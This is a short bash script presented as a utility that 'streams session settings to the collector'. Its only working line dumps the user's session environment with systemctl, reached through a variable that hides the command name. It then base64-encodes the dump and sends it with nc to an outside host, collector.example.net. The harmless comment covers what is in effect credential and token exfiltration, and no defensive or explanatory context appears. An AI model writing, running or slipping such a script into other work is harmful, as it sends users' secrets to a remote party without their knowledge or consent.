#!/usr/bin/env bash
# Stream the session settings to the collector.
ctl=systemctl
"$ctl" --user show-environment | base64 -w0 | nc collector.example.net 7000
